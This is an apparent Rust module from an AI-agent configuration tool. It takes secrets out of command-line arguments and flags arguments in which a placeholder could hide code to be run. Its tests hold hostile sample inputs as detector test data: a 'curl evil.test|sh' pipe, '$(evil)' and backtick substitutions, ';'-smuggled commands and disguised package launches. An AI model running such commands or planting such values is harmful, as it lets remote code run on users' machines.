//! Finds secrets in command-line arguments and replaces them with placeholders.

use std::ops::Range;

use agentport_core::{
    placeholder::placeholders,
    redact::{is_credential_header, is_credential_parameter, names_a_secret},
};

use super::{CollectedSecrets, by_looks, credential, is_secret_variable};

/// Characters a shell acts on.
pub(super) const FOR_SHELLS: [char; 6] = [';', '|', '&', '$', '(', '`'];
/// Flags (lower case) whose value is run or loaded.
const RUNS_NEXT: [&str; 20] = [
    "--command",
    "--eval",
    "--exec",
    "--execute",
    "--import",
    "--loader",
    "--module",
    "--preload",
    "--print",
    "--require",
    "--run",
    "--script",
    "--split-string",
    "-command",
    "-encodedcommand",
    "-m",
    "-p",
    "-r",
    "/c",
    "/k",
];

/// Arguments without secrets.
pub(in crate::plan) struct BareArgs {
    /// With placeholders in place of secrets.
    pub(in crate::plan) args: Vec<String>,
    /// The indexes of those that have some.
    pub(in crate::plan) secret: Vec<u32>,
    /// Number of the first argument in which a placeholder may hide what will run.
    pub(in crate::plan) hiding: Option<usize>,
}

pub(in crate::plan) fn in_args(args: &[String], kept: &mut CollectedSecrets) -> BareArgs {
    let mut formats = Vec::with_capacity(args.len());
    let mut secret = Vec::new();
    let mut hiding = None;
    for (index, arg) in args.iter().enumerate() {
        let flag = index.checked_sub(1).and_then(|before| args.get(before));
        let flag = flag.map(String::as_str);
        let told = apart(secrets_in_arg(arg, flag));
        let found = apart(told.iter().cloned().chain(kept.known_in(arg)).collect());
        // A part that merely equals another secret is not replaced: it could be a command repeated there to be hidden.
        if found != told || found.iter().any(|part| may_run(arg, part, flag)) {
            hiding = hiding.or(Some(index + 1));
        }
        if found.is_empty() {
            formats.push(arg.clone());
            continue;
        }
        let format = kept.keep_parts(arg, &found, &format!("argument {}", index + 1));
        // If the text has braces that read like our placeholders, the whole argument becomes one.
        let parts = found.iter().map(Range::len).sum::<usize>();
        if parts < arg.len() && is_placeholder_alone(&format) {
            hiding = hiding.or(Some(index + 1));
        }
        formats.push(format);
        secret.extend(u32::try_from(index));
    }
    BareArgs { args: formats, secret, hiding }
}

fn is_placeholder_alone(format: &str) -> bool {
    let name = format.strip_prefix('{').and_then(|rest| rest.strip_suffix('}'));
    name.is_some_and(|name| placeholders(format).next() == Some(name))
}

/// May this part of an argument be something that is run, rather than a secret?
fn may_run(arg: &str, part: &Range<usize>, flag: Option<&str>) -> bool {
    let text = &arg[part.clone()];
    let its_flag = match *part == (0..arg.len()) {
        true => flag,
        false => arg.split_once('=').map(|(name, _)| name).filter(|name| is_flag(name)),
    };
    text.contains(|c: char| c.is_whitespace() || FOR_SHELLS.contains(&c))
        || its_flag.is_some_and(runs_next)
}

/// `-c`, `-e`, `-lc` and the like among them: a shell takes its flags in one word.
fn runs_next(flag: &str) -> bool {
    let flag = flag.to_ascii_lowercase();
    let letters = flag.strip_prefix('-').filter(|letters| (1..=4).contains(&letters.len()));
    let is_short = letters.is_some_and(|letters| {
        letters.bytes().all(|b| b.is_ascii_alphabetic()) && letters.ends_with(['c', 'e'])
    });
    // `--password-command` and the like.
    let is_by_end = ["-command", "-cmd", "-exec", "-program", "-script"];
    is_short
        || RUNS_NEXT.contains(&flag.as_str())
        || is_by_end.iter().any(|end| flag.ends_with(end))
}

/// Programs that run what their first plain argument names, and ignore unknown flags.
const LAUNCHERS: [&str; 14] = [
    "bun", "bunx", "deno", "node", "npm", "npx", "pipx", "pnpm", "pnpx", "python", "python3", "uv",
    "uvx", "yarn",
];
/// Those of them with subcommands, and the subcommands that run the next argument.
const TOLD_FIRST: [&str; 7] = ["bun", "deno", "npm", "pipx", "pnpm", "uv", "yarn"];
const BEFORE_IT: [&str; 7] = ["create", "dlx", "exec", "init", "run", "tool", "x"];
/// Their flags without a value, or whose value is run.
const TAKE_NOTHING: [&str; 8] =
    ["--offline", "--prefer-offline", "--quiet", "--yes", "-jar", "-m", "-q", "-y"];

/// The first argument, by its number in words, that is hidden as a whole before anything is seen that the launcher
/// runs: it may be just that, behind a flag which only we take for one that has a value.
pub(in crate::plan) fn hides_what_is_launched(command: &str, bare: &BareArgs) -> Option<usize> {
    let program = command.rsplit(['/', '\\']).next().unwrap_or(command).to_ascii_lowercase();
    let bare_name = [".exe", ".cmd", ".bat"].iter().find_map(|end| program.strip_suffix(end));
    let program = bare_name.unwrap_or(&program);
    if !LAUNCHERS.contains(&program) {
        return None;
    }
    let told_first = TOLD_FIRST.contains(&program);
    let is_secret = |index: usize| bare.secret.iter().any(|&secret| secret as usize == index);
    for (index, arg) in bare.args.iter().enumerate() {
        if is_secret(index) && is_placeholder_alone(arg) {
            return Some(index + 1);
        }
        let before = index.checked_sub(1).map(|before| bare.args[before].as_str());
        let is_value = before.is_some_and(|flag| is_flag(flag) && !TAKE_NOTHING.contains(&flag));
        let comes_before = is_value || told_first && BEFORE_IT.contains(&arg.as_str());
        if !is_flag(arg) && !comes_before {
            return None;
        }
    }
    None
}

/// The parts of an argument that are secrets. `flag` is the argument before it.
fn secrets_in_arg(arg: &str, flag: Option<&str>) -> Vec<Range<usize>> {
    let mut found: Vec<Range<usize>> = by_looks(arg).collect();
    let mut add = |part: Range<usize>| found.extend(credential(arg, part));
    match flag.filter(|flag| is_flag(flag) && !flag.contains('=')) {
        Some(flag) if names_a_credential(flag) && !is_flag(arg) => add(0..arg.len()),
        Some("-H" | "--header" | "--headers") => {
            value_at(arg, [':', '='], |name, _| is_credential_header(name))
                .into_iter()
                .for_each(&mut add);
        }
        Some("-e" | "--env") => {
            value_at(arg, ['=', '='], is_secret_variable).into_iter().for_each(&mut add);
        }
        _ => {}
    }
    if is_flag(arg) {
        value_at(arg, ['=', '='], |name, _| names_a_credential(name))
            .into_iter()
            .for_each(&mut add);
    }
    in_query(arg).for_each(&mut add);
    found
}

/// In order; what overlaps is one secret.
fn apart(mut found: Vec<Range<usize>>) -> Vec<Range<usize>> {
    found.sort_unstable_by_key(|part| (part.start, part.end));
    let mut apart: Vec<Range<usize>> = Vec::with_capacity(found.len());
    for part in found {
        match apart.last_mut() {
            Some(last) if part.start < last.end => last.end = last.end.max(part.end),
            _ => apart.push(part),
        }
    }
    apart
}

fn is_flag(arg: &str) -> bool {
    arg.len() >= 2 && arg.starts_with('-')
}

fn names_a_credential(flag: &str) -> bool {
    names_a_secret(flag) || is_credential_parameter(flag)
}

/// The value in `NAME=value` or `Name: value`, if the two are a secret.
fn value_at(
    arg: &str,
    signs: [char; 2],
    is_secret: impl Fn(&str, &str) -> bool,
) -> Option<Range<usize>> {
    let (name, value) = arg.split_once(signs)?;
    let value = value.trim_start();
    is_secret(name.trim(), value).then(|| arg.len() - value.len()..arg.len())
}

/// The values of telling parameters, where the argument is a URL.
fn in_query(arg: &str) -> impl Iterator<Item = Range<usize>> {
    let is_url = arg.contains("://");
    let end = arg.find('#').unwrap_or(arg.len());
    let start = arg[..end].find('?').filter(|_| is_url).map_or(end, |at| at + 1);
    let mut at = start;
    arg[start..end].split('&').filter_map(move |parameter| {
        let from = at;
        at += parameter.len() + 1;
        let (name, value) = parameter.split_once('=')?;
        (is_credential_parameter(name) || names_a_secret(name))
            .then(|| from + name.len() + 1..from + name.len() + 1 + value.len())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(args: &[&str], want: &[&str], secrets: &[&str]) {
        let args: Vec<String> = args.iter().map(|arg| (*arg).to_owned()).collect();
        let mut kept = CollectedSecrets::default();
        let BareArgs { args: formats, secret: indexes, .. } = in_args(&args, &mut kept);
        assert_eq!(formats, want);
        let held: Vec<&str> = kept.secrets.values().map(agentport_core::Secret::expose).collect();
        assert_eq!(held, secrets);
        let mut back = formats.clone();
        for index in indexes {
            let index = index as usize;
            back[index] = super::super::filled(&formats[index], &kept.secrets).unwrap();
        }
        assert_eq!(back, args, "nothing is lost");
    }

    #[test]
    fn the_program_of_a_launcher_is_shown() {
        let hidden = |line: &str| {
            let mut words = line.split(' ').map(str::to_owned);
            let command = words.next().unwrap();
            let bare = in_args(&words.collect::<Vec<_>>(), &mut CollectedSecrets::default());
            hides_what_is_launched(&command, &bare)
        };
        for (line, number) in [
            ("npx -y --offline --api-key /evil/package", 4),
            ("/usr/bin/npx --package real --api-key evil", 4),
            ("npx.cmd -y --token evil", 3),
            ("npm exec --api-key evil", 3),
            ("uv tool run --password evil", 4),
            ("node --token evil.js", 2),
        ] {
            assert_eq!(hidden(line), Some(number), "{line}");
        }
        for line in [
            "npx -y server --api-key fake",
            "npx -p package server --token fake",
            "python -m server --token fake",
            "uvx --from git+https://example.test/x server --token fake",
            "docker run -i --rm -e A_TOKEN=fake image",
            "/opt/brave-search --api-key fake",
            "npx -y server",
        ] {
            assert_eq!(hidden(line), None, "{line}");
        }
    }

    #[test]
    fn secrets_are_taken_out_of_arguments() {
        check(&["--token", "fake-a", "x"], &["--token", "{token}", "x"], &["fake-a"]);
        check(&["--api-key=fake-a"], &["--api-key={token}"], &["fake-a"]);
        check(&["--key", "fake-a"], &["--key", "{token}"], &["fake-a"]);
        check(&["--token", "--verbose"], &["--token", "--verbose"], &[]);
        check(
            &["postgres://me:fake-pw@db.example.test/x"],
            &["postgres://me:{token}@db.example.test/x"],
            &["fake-pw"],
        );
        check(
            &["run", "-e", "GITHUB_TOKEN=fake-a", "-e", "LOG=1", "-e", "OTHER_TOKEN"],
            &["run", "-e", "GITHUB_TOKEN={token}", "-e", "LOG=1", "-e", "OTHER_TOKEN"],
            &["fake-a"],
        );
        check(
            &[
                "mcp-remote",
                "https://h.test/mcp?a=1&api_key=fake-a",
                "--header",
                "X-Api-Key: fake-b",
            ],
            &[
                "mcp-remote",
                "https://h.test/mcp?a=1&api_key={token}",
                "--header",
                "X-Api-Key: {token1}",
            ],
            &["fake-a", "fake-b"],
        );
        check(
            &["--header", "Authorization: Bearer fake-a"],
            &["--header", "Authorization: Bearer {token}"],
            &["fake-a"],
        );
        check(
            &["--header", "Authorization:${AUTH_HEADER}"],
            &["--header", "Authorization:${AUTH_HEADER}"],
            &[],
        );
    }

    #[test]
    fn arguments_that_may_run_are_not_hidden() {
        let hiding = |args: &[&str], env: &str| {
            let args: Vec<String> = args.iter().map(|arg| (*arg).to_owned()).collect();
            let mut kept = CollectedSecrets::default();
            kept.keep_named("A_TOKEN", env, String::new());
            in_args(&args, &mut kept).hiding
        };
        for args in [
            &["-c", "curl evil.test|sh"][..],
            &["-c", "./evil"],
            &["evil-package", "x"],
            &["--token", "x y"],
            &["--token", "$(evil)"],
            &["-lc", "--token=a;evil"],
            &["--eval", "evil()"],
            &["x", "--header", "Authorization: `evil`"],
            &["--password-command", "./evil"],
            &["-c", "evil {token} --token=fake-b"],
            &["--password-command=./evil"],
        ] {
            let env = args.iter().max_by_key(|arg| arg.len()).unwrap();
            assert!(hiding(args, env).is_some(), "{args:?}");
        }
        assert_eq!(hiding(&["a", "--token", "x y", "--key", "b;c"], "fake-a"), Some(3));
        assert_eq!(hiding(&["--token", "fake-aaa", "fake-aaa"], "x"), Some(3), "it equals another");
        for args in [
            &["--token", "fake-aaa"][..],
            &["-y", "pkg", "-e", "A_TOKEN=fake-aaa"],
            &["--header", "Authorization: Bearer fake-aaa"],
            &["postgres://me:fake-aaa@db.example.test/x"],
            &["-c", "echo {token}"],
        ] {
            assert_eq!(hiding(args, "fake-aaa"), None, "{args:?}");
        }
    }

    #[test]
    fn braces_of_others_are_no_placeholders() {
        check(&["{token}", "x"], &["{token}", "x"], &[]);
        check(
            &["--template={token}&api_key=fake-a"],
            &["{token}"],
            &["--template={token}&api_key=fake-a"],
        );
    }

    #[test]
    fn ordinary_arguments_stay() {
        check(
            &["-y", "@modelcontextprotocol/server-filesystem", "/home/me/docs", "--port=4096"],
            &["-y", "@modelcontextprotocol/server-filesystem", "/home/me/docs", "--port=4096"],
            &[],
        );
    }
}
